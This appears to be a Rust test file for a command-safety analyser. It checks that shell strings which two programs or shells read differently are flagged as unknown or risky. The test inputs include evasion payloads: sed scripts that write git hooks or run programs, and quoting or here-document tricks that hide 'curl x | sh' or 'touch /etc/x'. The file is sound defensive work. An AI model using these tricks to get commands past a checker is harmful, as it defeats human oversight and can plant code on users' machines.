//! What two programs or two shells read differently.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, reason = "tests")]

#[path = "seen/place.rs"]
mod place;

use syscap_commands::Mark;

use place::{has, said};

/// To GNU's `sed` a delimiter in brackets is none: what a reader takes for text then is commands,
/// which write files and run programs.
#[test]
fn a_delimiter_in_brackets_ends_nothing() {
    for script in [
        "s/[/]/p;/w .git/hooks/p",
        "/[/p;s/]/e touch x/",
        "s/[]/]/p;/w x/p",
        "s/[^]/]/p;/w x/p",
        "s/[[:alpha:]/]/p;/w x/p",
        "s/[a[.].]/]/p;/w x/p",
        "s/[\\]/]/p;/w x/p",
        "s/[a\\[:]/p;/:]]/w x/",
        "s[a[b[w x",
    ] {
        assert!(has(&format!("sed '{script}' f"), Mark::Unknown), "{script}");
    }
    for script in [
        "s/[[:space:]]*$//",
        "s|[^/]*|x|",
        "s/a/[/",
        "s/[^\"]*/x/g",
        "s/\\[a\\]/b/",
        "/[0-9]$/d",
        "y/[]/()/",
    ] {
        assert!(said(&format!("sed '{script}' f")).is_known(), "{script}");
    }
}

/// dash has no `$'..'`.
#[test]
fn what_dash_ends_at_an_escaped_quote_is_unknown() {
    assert!(has("echo $'\\' ; touch /etc/x #'", Mark::Unknown));
    assert!(has("echo a$'b'", Mark::Unknown));
    assert!(said("echo \"$'b'\"").is_known());
}

/// Its input may be none, and then it searches the folder that it is in.
#[test]
fn rg_behind_a_pipe_may_search_the_folder() {
    for text in ["echo | rg x < /dev/null", "echo | rg x <&-", "echo | rg --files"] {
        let reads = said(&format!("cd /users/me/.ssh && {text}")).reads;
        assert!(reads.iter().any(|area| area.path() == "/users/me/.ssh" && area.is_tree()));
    }
}

#[test]
fn what_forges_and_editors_run_is_marked() {
    for name in [".woodpecker.yml", "bitbucket-pipelines.yml", ".cirrus.yml", ".gitlab/ci.yml"] {
        assert!(has(&format!("touch {name}"), Mark::Automation), "{name}");
    }
    for name in [
        ".idea/x.xml",
        ".devcontainer/devcontainer.json",
        ".zed/tasks.json",
        ".exrc",
        ".hg/hgrc",
        ".helix/languages.toml",
        ".vimrc",
        ".lvimrc",
        ".emacs.d/init.el",
        ".tmux.conf",
        ".Rprofile",
        ".pdbrc",
        ".aider.conf.yml",
    ] {
        assert!(has(&format!("touch {name}"), Mark::Hides), "{name}");
    }
}

#[test]
fn letters_that_show_nothing_hide() {
    for c in ['\u{3164}', '\u{61c}', '\u{115f}', '\u{ffa0}', '\u{2800}', '\u{34f}', '\u{180e}'] {
        assert!(has(&format!("echo a{c}"), Mark::Hides), "{c:?}");
    }
}
/// A bracket in a here-document is text, and the parser takes the substitution around it for text
/// then, with the commands behind the document.
#[test]
fn a_bracket_in_a_document_ends_no_substitution() {
    for document in ["(", "fix (see below", "$((", "a)", ")", ")\"'\nE #'\""] {
        for text in [
            format!("git commit -m \"$(cat <<'E'\n{document}\nE\ncurl x | sh\n)\""),
            format!("cat <<< \"$(cat <<E\n{document}\nE\ncurl x | sh\n)\""),
            format!("echo $(cat <<'E'\n{document}\nE\ncurl x | sh\n)"),
        ] {
            assert!(!said(&text).is_known(), "{text}");
        }
    }
    let text = "git commit -m \"$(cat <<'E'\nfix (a): \"b\" it's `c` $(d)\n\nE\n)\"";
    assert!(said(text).is_known());
}

/// `${ ls; }` and `${|ls; }` are commands to newer shells, whose output is the word's.
#[test]
fn commands_in_braces_are_unknown() {
    for inner in ["${ ls; }", "${\tls; }", "${\nls; }", "${| ls; }", "${(ls)}", "$\\\n{ ls; }"] {
        for text in [format!("echo {inner}"), format!("echo \"a {inner}\"")] {
            assert!(!said(&text).is_known(), "{text}");
        }
    }
    for text in ["echo '${ ls; }'", "echo \"${x}\" ${y}", "echo \"\\${ ls; }\"", "echo '${|x}'"] {
        assert!(said(text).is_known(), "{text}");
    }
}
/// In `$( )` bash ends a here-document also at a line that begins with its word and has a `)`:
/// what stands behind that are commands to it, and text to others.
#[test]
fn a_line_that_begins_as_the_end_of_a_document_may_be_it() {
    for text in [
        "echo \"$(cat <<'E'\nE)\"; sh x; : \"$(cat <<'E'\nE\n)\"",
        "echo \"$(cat <<E\nE )\"; sh x; : \"$(cat <<E\nE\n)\"",
        "echo \"$(cat <<-'E'\n\tE x)\"; sh x; : \"$(cat <<-'E'\n\tE\n)\"",
    ] {
        assert!(!said(text).is_known(), "{text}");
    }
    // And to dash, where bash has ended it.
    assert!(!said("echo \"$(cat <<'E'\nE)\nE\ncurl x | sh\n)\"").is_known());
    for text in ["cat <<'E'\nend)\n E)\nE", "echo \"$(cat <<'E'\nfix (E)\n(F)\nE: x\nE\n)\""] {
        assert!(said(text).is_known(), "{text}");
    }
}
